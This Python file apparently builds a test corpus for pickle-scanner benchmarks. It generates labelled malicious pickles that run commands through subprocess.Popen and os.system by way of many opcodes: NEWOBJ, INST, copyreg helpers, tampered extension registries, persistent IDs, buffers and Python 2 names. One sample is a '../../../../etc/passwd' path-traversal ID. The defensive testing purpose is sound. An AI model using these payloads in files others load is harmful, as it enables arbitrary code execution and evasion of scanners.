"""Every opcode that can make or call something."""

from __future__ import annotations

from random import Random

from bench.scan.corpus import assembler as a
from bench.scan.corpus.pickles.common import COMMAND, OS, Made
from bench.scan.corpus.sample import payload, runner


def opcodes(chance: Random) -> Made:
    """Every opcode that can make or call something, and the registries behind some of them."""
    module, name, text = runner(chance)
    for label, write in {"unicode": a.unicode_, "binunicode": a.binunicode, "string": a.string, "short-binstring": a.short_binstring}.items():  # fmt: skip
        yield f"inst-{label}", a.whole(a.inst(module, name, write(text)), 0)
        yield f"obj-{label}", a.whole(a.obj(a.global_(module, name), write(text)), 1)
    yield "inst-without-mark-noise", a.whole(a.MARK + a.POP + a.inst(module, name, a.unicode_(text)), 0)
    yield (
        "inst-nested-marks",
        a.whole(
            a.MARK
            + a.MARK
            + a.unicode_(text)
            + b"i"
            + module.encode()
            + b"\n"
            + name.encode()
            + b"\n"
            + a.POP_MARK
            + a.NONE,
            0,
        ),
    )
    yield (
        "newobj-popen",
        a.whole(
            a.named("subprocess", "Popen") + a.tuple_(a.list_(a.short("echo"), a.short("pwned"))) + a.NEWOBJ
        ),
    )
    yield (
        "newobj-proto2",
        a.whole(a.global_("subprocess", "Popen") + a.tuple_(a.binunicode("echo pwned")) + a.NEWOBJ, 2),
    )
    yield (
        "newobj-ex-shell",
        a.whole(
            a.named("subprocess", "Popen")
            + a.tuple_(COMMAND)
            + a.dict_((a.short("shell"), a.NEWTRUE))
            + a.NEWOBJ_EX
        ),
    )
    yield (
        "newobj-ex-by-copyreg",
        a.whole(
            a.call(
                a.named("copyreg", "__newobj_ex__"),
                a.named("subprocess", "Popen"),
                a.tuple_(COMMAND),
                a.dict_((a.short("shell"), a.NEWTRUE)),
            )
        ),
    )
    yield (
        "newobj-by-copyreg",
        a.whole(a.call(a.named("copyreg", "__newobj__"), a.named("subprocess", "Popen"), COMMAND)),
    )
    yield (
        "newobj-by-copy-reg",
        a.whole(
            a.call(
                a.global_("copy_reg", "__newobj__"), a.global_("subprocess", "Popen"), a.binunicode("echo")
            ),
            2,
        ),
    )
    yield (
        "reconstructor",
        a.whole(
            a.call(
                a.named("copyreg", "_reconstructor"),
                a.named("subprocess", "Popen"),
                a.named("builtins", "object"),
                a.NONE,
            )
            + a.dict_((a.short("args"), COMMAND))
            + a.BUILD
        ),
    )
    yield (
        "reconstructor-base-call",
        a.whole(
            a.call(
                a.named("copyreg", "_reconstructor"),
                a.named("builtins", "map"),
                a.named("builtins", "map"),
                OS,
            )
        ),
    )
    yield "copyreg-reduce-ex", a.whole(a.call(a.named("copyreg", "_reduce_ex"), OS, a.binint1(2)))
    yield (
        "copyreg-pickle-function",
        a.whole(a.call(a.named("copyreg", "pickle"), a.named("builtins", "list"), OS)),
    )
    registered = (
        a.call(a.named("copyreg", "add_extension"), a.short("os"), a.short("system"), a.binint1(86)) + a.POP
    )
    for width, code in (("ext1", a.ext1(86)), ("ext2", a.ext2(86)), ("ext4", a.ext4(86))):
        yield f"{width}-registered-here", a.whole(registered + code + a.tuple_(COMMAND) + a.REDUCE)
        yield f"{width}-registered-elsewhere", a.whole(code + a.tuple_(COMMAND) + a.REDUCE), "gray"
    yield (
        "ext-registry-setitem",
        a.whole(
            a.named("copyreg", "_inverted_registry")
            + a.binint1(87)
            + a.tuple_(a.short("os"), a.short("system"))
            + a.SETITEM
            + a.ext1(87)
            + a.tuple_(COMMAND)
            + a.REDUCE
        ),
    )
    yield (
        "ext-cache-setitem",
        a.whole(
            a.named("copyreg", "_extension_cache")
            + a.binint1(88)
            + OS
            + a.SETITEM
            + a.ext1(88)
            + a.tuple_(COMMAND)
            + a.REDUCE
        ),
    )
    yield "ext4-negative", a.whole(payload(chance) + a.ext4(-1))
    yield "persid-of-path", a.whole(a.persid("../../../../etc/passwd"), 0), "gray"
    yield (
        "binpersid-tuple-callable",
        a.whole(a.tuple_(a.short("storage"), OS, a.short("0"), a.short("cpu"), a.binint1(1)) + a.BINPERSID),
    )
    yield (
        "binpersid-then-reduce",
        a.whole(
            a.tuple_(a.short("storage"), a.global_("torch", "FloatStorage"))
            + a.BINPERSID
            + a.tuple_(COMMAND)
            + a.REDUCE
        ),
    )
    yield "next-buffer-called", a.whole(a.NEXT_BUFFER + a.tuple_(COMMAND) + a.REDUCE, 5), "gray"
    yield "readonly-buffer-name", a.whole(payload(chance) + a.POP + a.NEXT_BUFFER + a.READONLY_BUFFER, 5)
    for version in range(6):
        body = a.call(a.global_(module, name), a.unicode_(text) if version == 0 else a.binunicode(text))
        if version == 0:
            body = a.global_(module, name) + a.MARK + a.unicode_(text) + a.TUPLE + a.REDUCE
        yield f"global-protocol-{version}", a.whole(body, version)
    yield "proto-6", b"\x80\x06" + a.call(OS, COMMAND) + a.STOP, "gray"
    yield "proto-255", payload(chance) + b"\x80\xff" + a.STOP
    yield "proto-late", a.NONE + a.POP + a.proto(4) + payload(chance) + a.STOP
    yield "no-proto-stack-global", payload(chance) + a.STOP
    for label, (old_module, old_name) in {"builtin-apply": ("__builtin__", "apply"), "builtin-execfile": ("__builtin__", "execfile"), "builtin-raw-input": ("__builtin__", "raw_input"), "commands": ("commands", "getstatusoutput"), "urllib": ("urllib", "urlretrieve"), "urllib2": ("urllib2", "urlopen"), "httplib": ("httplib", "HTTPConnection"), "xmlrpclib": ("xmlrpclib", "ServerProxy"), "anydbm": ("anydbm", "open"), "dumbdbm": ("dumbdbm", "open"), "thread": ("thread", "start_new_thread"), "copy-reg": ("copy_reg", "add_extension"), "user-dict": ("UserDict", "UserDict"), "popen2": ("popen2", "popen3"), "new-instancemethod": ("new", "instancemethod"), "robotparser": ("robotparser", "RobotFileParser"), "subprocess-alias": ("os", "popen2"), "itertools-imap": ("itertools", "imap"), "cpickle": ("cPickle", "loads")}.items():  # fmt: skip
        yield (
            f"python2-name-{label}",
            a.whole(a.call(a.global_(old_module, old_name), a.binunicode("echo pwned")), 2),
            "gray" if label == "user-dict" else "core",
        )
